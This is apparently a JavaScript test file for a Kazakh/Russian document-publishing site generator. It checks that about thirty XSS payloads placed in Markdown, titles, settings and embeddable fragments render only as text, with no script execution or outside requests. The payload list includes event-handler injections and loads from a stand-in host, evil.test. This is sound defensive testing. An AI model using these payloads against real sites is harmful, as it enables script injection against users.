// What a text, its title and the settings hold stays words in a browser that no
// policy protects: nothing of it runs, nothing asks another host, and the words
// are there to be read.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { files, host, kelisim, launch } from './site.mjs';

// payloads would call evil() or load from evil.test if a writer took them for more than words.
const payloads = [
  '<script>evil()</script>', '</script><script>evil()</script>', '<img src=x onerror=evil()>', '<svg onload=evil()>', '"><b onmouseover=evil()>слово</b>',
  '\' autofocus onfocus=\'evil()', '<iframe srcdoc="<script>parent.evil()</script>"></iframe>', '<style>@import "//evil.test/a.css"</style>', '</style><script>evil()</script>',
  '</title><script>evil()</script>', '</template></main></body><script>evil()</script>', '<!--><script>evil()</script>', ']]><script>evil()</script>',
  '<a href=javascript:evil()>слово</a>', '<form action=//evil.test><input autofocus onfocus=evil()></form>', '<meta http-equiv=refresh content="0;//evil.test">',
  '<base href=//evil.test/>', '<math><mtext></mtext><script>evil()</script></math>', '<object data=//evil.test/x></object>', '<link rel=stylesheet href=//evil.test/a.css>',
  '<video src=//evil.test/v onerror=evil()></video>', '<details open ontoggle=evil()>слово</details>', '<script src=//evil.test/a.js></script>', '{{evil()}}', '\\u003cscript\\u003eevil()',
  '&lt;script&gt;evil()&lt;/script&gt;', '<noscript><p title="</noscript><img src=x onerror=evil()>">', '<embed src=//evil.test/e>', '<body onload=evil()>', '<x style="background:url(//evil.test/b)">слово</x>',
];

// frames are the places of a text in which a payload stands.
const frames = [
  '%s', 'слово %s слово', '# %s', '## 5. %s', '1.1. %s', '- %s', '1) %s', '> %s', '| а | %s |\n|---|---|\n| %s | б |', '`%s`', '**%s**', '*%s*', '[%s](https://x.kz/)', '[слово](<%s>)',
  '[слово](https://x.kz/ "%s")', '<https://x.kz/%s>', '![%s](data:text/html,%s)', '```\n%s\n```', '    %s', 'слово\\\n%s', '(далее – «%s»)',
];

// text is all that a page says, in folds too.
const text = () => document.documentElement.textContent;

let root, site, browser;

before(async () => {
  root = mkdtempSync(path.join(os.tmpdir(), 'kelisim-hostile-'));
  const write = (name, data) => {
    mkdirSync(path.dirname(path.join(root, name)), { recursive: true });
    writeFileSync(path.join(root, name), data);
  };
  site = await host({ csp: '' });
  const name = JSON.stringify(payloads.join(' '));
  write('content/site.yaml', `id: test\nlanguages: [kk, ru]\nbase_url: ${site.url}\norganization: {kk: ${name}, ru: ${name}}\n`);
  for (let i = 0; i < payloads.length; i += 10) {
    const some = payloads.slice(i, i + 10);
    const quoted = JSON.stringify(some.join(' '));
    write(`content/d${i}/document.yaml`, 'kind: rules\n');
    for (const edition of [1, 2]) {
      const lines = some.flatMap(p => frames.map(f => f.replaceAll('%s', () => p))).join('\n\n') + `\n\nслово ${edition}\n`;
      for (const lang of ['kk', 'ru']) write(`content/d${i}/${edition}/${lang}.md`, `---\ntitle: ${quoted}\nchanges: ${quoted}\n---\n\n${lines}`);
    }
  }
  // A published document, so that feeds, data and fragments are made of the payloads, too.
  write('content/p/document.yaml', 'kind: rules\n');
  for (const edition of [1, 2]) {
    write(`content/p/${edition}/edition.yaml`, edition > 1 ? 'material: true\neffective: 2040-01-01\n' : '');
    for (const lang of ['kk', 'ru']) {
      const lines = payloads.map((p, i) => `${i + 1}. ${p.replace(/[<>&"'\\`]/g, c => '\\' + c)} ${edition}`).join('\n\n');
      write(`content/p/${edition}/${lang}.md`, `---\ntitle: ${JSON.stringify(payloads[0])}\nchanges: ${JSON.stringify(payloads[edition])}\n---\n\n${lines}\n`);
    }
    kelisim(root, 'publish', '--yes', 'p', String(edition));
  }
  kelisim(root, 'build', '--quiet', '--drafts', '--output', path.join(root, 'drafts'));
  site.dir = path.join(root, 'drafts');
  browser = await launch();
});
after(async () => {
  await browser?.close();
  site?.close();
  rmSync(root, { recursive: true, force: true });
});

test('payloads stay words without a policy', { timeout: 600_000 }, async () => {
  assert.ok(payloads.length * frames.length >= 600);
  const pages = files(site.dir).filter(f => /\.(html|xml|svg)$/.test(f) && !f.startsWith('assets/'));
  assert.ok(pages.length > 60, `${pages.length} pages`);
  const page = await browser.newPage();
  const said = [];
  await page.exposeFunction('evil', () => said.push('evil() ran'));
  page.on('dialog', d => (said.push(`dialog ${d.message()}`), d.dismiss()));
  await page.setRequestInterception(true);
  page.on('request', r => {
    if (r.url().startsWith(site.url) || r.url().endsWith('/favicon.ico') || r.url().startsWith('data:') && r.resourceType() !== 'document') return r.continue();
    said.push(`asked for ${r.url()}`);
    r.abort();
  });
  let read = 0;
  for (const name of pages) {
    await page.goto(site.url + name, { waitUntil: 'load' });
    for (const e of await page.$$('details:not([open]) > summary')) await e.evaluate(x => x.parentElement.open = true);
    if ((await page.evaluate(text)).includes('evil()')) read++;
    const elements = await page.evaluate(() => document.querySelectorAll('main script, main iframe, main object, main embed, main form[action*=evil], base, math, video, [onerror], [onload], [onfocus], [onmouseover], [ontoggle]').length);
    assert.equal(elements, 0, name);
    assert.deepEqual(said, [], name);
  }
  assert.ok(read > pages.length * .8, `the words stand on ${read} of ${pages.length} pages`);
});

// The fragments are for other systems' pages: there they are put in as they are.
test('fragments stay words in a page of a host', async () => {
  const fragments = files(site.dir).filter(f => f.startsWith('embed/') && f.endsWith('.html'));
  assert.ok(fragments.length >= 4, fragments.join());
  const page = await browser.newPage();
  const said = [];
  await page.exposeFunction('evil', () => said.push('evil() ran'));
  await page.goto(site.url + '404.html');
  for (const name of fragments) {
    const words = await page.evaluate(async url => {
      document.body.innerHTML = await (await fetch(url)).text();
      for (const e of document.body.querySelectorAll('*')) for (const kind of ['mouseover', 'focus', 'toggle']) e.dispatchEvent(new Event(kind));
      await new Promise(done => setTimeout(done, 50));
      return document.body.textContent;
    }, site.url + name);
    assert.ok(words.includes('evil()'), name);
    assert.deepEqual(said, [], name);
  }
});
